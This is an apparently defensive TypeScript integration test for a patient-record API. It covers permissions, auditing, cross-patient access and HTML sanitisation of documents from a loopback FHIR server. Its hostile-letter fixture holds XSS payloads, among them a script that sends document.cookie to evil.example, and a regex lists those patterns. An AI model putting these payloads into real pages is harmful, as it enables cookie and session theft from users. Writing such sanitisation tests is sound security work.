/**
 * @module Opening a document from any source the record came from
 * (`GET /api/patients/{nhsNumber}/sources/{sourceId}/documents/{id}`): the hospital's discharge
 * letter opens under the view's permission and audit, `no-store`; another patient's document is not
 * found; no permission, no source asked; a hostile source's HTML is sanitised. The hostile source is
 * a real FHIR R4 server on loopback that names the patient as PDS does.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { PERSONAS, type PersonaKey } from '../../sim/population/personas.ts';
import {
  outcomeCode,
  startSystem,
  type ApiClient,
  type RunningSystem,
} from '../support/running-system.ts';

const HOSTILE_LETTER = [
  '<h1>Clinic letter</h1>',
  '<p onclick="steal()">Seen in the heart failure clinic.</p>',
  '<script>fetch("https://evil.example/?"+document.cookie)</script>',
  '<img src="https://evil.example/pixel.png" onerror="steal()">',
  '<a href="javascript:steal()">More</a>',
  '<style>body{display:none}</style>',
  '<iframe src="https://evil.example/"></iframe>',
].join('\n');

/** A hospital FHIR R4 server of the test's own: the patient as PDS has them, one hostile letter. */
async function startHostileSource(pdsUrl: () => string): Promise<{ url: string; server: Server }> {
  const server = createServer((request, response) => {
    void (async () => {
      const url = new URL(request.url ?? '/', 'http://localhost');
      const send = (status: number, body: unknown): void => {
        response.writeHead(status, { 'content-type': 'application/fhir+json' });
        response.end(JSON.stringify(body));
      };
      const base = `http://${request.headers.host ?? 'localhost'}`;
      if (url.pathname === '/Patient') {
        const nhsNumber = (url.searchParams.get('identifier') ?? '').split('|')[1] ?? '';
        const pds = await fetch(`${pdsUrl()}/Patient/${nhsNumber}`, {
          headers: { 'x-request-id': crypto.randomUUID() },
        });
        const patient = (await pds.json()) as { id?: string };
        send(200, {
          resourceType: 'Bundle',
          type: 'searchset',
          entry:
            pds.status === 200
              ? [{ fullUrl: `${base}/Patient/${patient.id}`, resource: patient }]
              : [],
        });
        return;
      }
      if (url.pathname === '/DocumentReference') {
        const patient = url.searchParams.get('patient') ?? '';
        send(200, {
          resourceType: 'Bundle',
          type: 'searchset',
          entry: [
            {
              resource: {
                resourceType: 'DocumentReference',
                id: 'clinic-letter-1',
                status: 'current',
                subject: { reference: `Patient/${patient}` },
                date: '2025-10-01',
                description: 'Clinic letter',
                content: [
                  {
                    attachment: {
                      contentType: 'text/html',
                      data: Buffer.from(HOSTILE_LETTER, 'utf8').toString('base64'),
                    },
                  },
                ],
              },
            },
          ],
        });
        return;
      }
      send(404, {
        resourceType: 'OperationOutcome',
        issue: [{ severity: 'error', code: 'not-supported' }],
      });
    })();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server };
}

interface RecordBody {
  readonly sections: Record<
    string,
    { source: { sourceId: string }; resource: { resourceType: string; id?: string } }[]
  >;
}

describe('documents from the sources a record came from', () => {
  let system: RunningSystem;
  let hostile: { url: string; server: Server };
  let clinician: ApiClient;
  let pds = '';

  before(async () => {
    hostile = await startHostileSource(() => pds);
    system = await startSystem({
      extraSources: [
        {
          id: 'clinic',
          name: 'Heart Failure Clinic',
          organisation: 'RZZ01',
          kind: 'fhir-r4',
          url: hostile.url,
          resourceTypes: ['DocumentReference'],
        },
      ],
    });
    pds = system.sims.demographicsUrl;
    const account = await system.createUser('gp');
    clinician = system.client();
    assert.equal((await clinician.signIn(account.username, account.password)).status, 200);
  });

  after(async () => {
    await system?.close();
    await new Promise((resolve) => hostile?.server.close(resolve));
  });

  function persona(key: PersonaKey): string {
    const found = PERSONAS.find((candidate) => candidate.key === key);
    assert.ok(found !== undefined);
    return found.nhsNumber;
  }

  async function permit(nhsNumber: string): Promise<void> {
    const granted = await clinician.post(`/api/patients/${nhsNumber}/permissions`, {
      basis: 'consent',
      method: 'verbal',
      givenBy: 'patient',
    });
    assert.equal(granted.status, 201, granted.text);
  }

  async function dischargeLetterOf(nhsNumber: string): Promise<string> {
    const record = await clinician.get(`/api/patients/${nhsNumber}/record`);
    assert.equal(record.status, 200, record.text);
    const letter = (record.body as RecordBody).sections['documents']?.find(
      (item) => item.source.sourceId === 'hospital',
    );
    assert.ok(letter?.resource.id !== undefined, 'the hospital lists a discharge letter');
    return letter.resource.id;
  }

  test("the hospital's discharge letter opens as a page, no-store, and the opening is audited", async () => {
    const nhsNumber = persona('typical');
    await permit(nhsNumber);
    const id = await dischargeLetterOf(nhsNumber);
    const hospitalBefore = system.sims.stats['hospital']?.total ?? 0;

    const opened = await clinician.get(
      `/api/patients/${nhsNumber}/sources/hospital/documents/${id}`,
    );
    assert.equal(opened.status, 200, opened.text);
    assert.equal(opened.headers.get('content-type'), 'text/html; charset=utf-8');
    assert.equal(opened.headers.get('cache-control'), 'no-store');
    assert.equal(opened.headers.get('content-disposition'), 'inline');
    assert.match(opened.text, /^<p>/);
    assert.match(opened.text, /discharge|admitted|Discharge/i);
    // Fetched live: the hospital was asked again.
    assert.ok((system.sims.stats['hospital']?.total ?? 0) > hospitalBefore);

    const entries = await system.app.services.audit.list({
      nhsNumber,
      limit: 3,
      newestFirst: true,
    });
    const [completed, source] = entries.map((entry) => entry.entry.event);
    assert.ok(source !== undefined && source.action === 'record-view-source');
    assert.equal(source.source.id, 'hospital');
    assert.equal(source.outcome, 'success');
    assert.deepEqual(source.source.counts, { documents: 1 });
    assert.ok(completed !== undefined && completed.action === 'record-view-completed');
    assert.equal(completed.outcome, 'success');
    assert.deepEqual(
      completed.sources.map((call) => call.id),
      ['hospital'],
    );
    // Nothing of the letter is in the audit trail.
    assert.doesNotMatch(JSON.stringify(entries), /discharge summary text|admitted/i);
  });

  test("another patient's document is not found under this patient's permission", async () => {
    const other = persona('discharge-medicines-differ');
    await permit(other);
    const othersLetter = await dischargeLetterOf(other);
    const nhsNumber = persona('typical');
    const refused = await clinician.get(
      `/api/patients/${nhsNumber}/sources/hospital/documents/${othersLetter}`,
    );
    assert.equal(refused.status, 404, refused.text);
    assert.equal(outcomeCode(refused.body), 'NOT_FOUND');
    const entries = await system.app.services.audit.list({
      nhsNumber,
      limit: 1,
      newestFirst: true,
    });
    const completed = entries[0]?.entry.event;
    assert.ok(completed !== undefined && completed.action === 'record-view-completed');
    assert.equal(completed.outcome, 'failure');
  });

  test('without a permission nothing is asked of the source', async () => {
    const nhsNumber = persona('dob-mismatch');
    const before = system.sims.stats['hospital']?.total ?? 0;
    const refused = await clinician.get(
      `/api/patients/${nhsNumber}/sources/hospital/documents/anything`,
    );
    assert.equal(refused.status, 403, refused.text);
    assert.equal(outcomeCode(refused.body), 'PERMISSION_REQUIRED');
    assert.equal(system.sims.stats['hospital']?.total ?? 0, before);
  });

  test("a source that is not one of this view's is not found", async () => {
    const nhsNumber = persona('typical');
    const refused = await clinician.get(
      `/api/patients/${nhsNumber}/sources/elsewhere/documents/clinic-letter-1`,
    );
    assert.equal(refused.status, 404, refused.text);
  });

  test("a hostile source's HTML letter is shown without script, handlers, images, styles or links out", async () => {
    const nhsNumber = persona('typical');
    const opened = await clinician.get(
      `/api/patients/${nhsNumber}/sources/clinic/documents/clinic-letter-1`,
    );
    assert.equal(opened.status, 200, opened.text);
    assert.equal(opened.headers.get('cache-control'), 'no-store');
    assert.match(opened.text, /Seen in the heart failure clinic\./);
    assert.doesNotMatch(
      opened.text,
      /<script|onclick|onerror|<img|<style|<iframe|javascript:|evil/i,
    );
    assert.doesNotMatch(
      opened.headers.get('content-security-policy') ?? 'missing',
      /unsafe-inline|missing/,
    );
  });
});
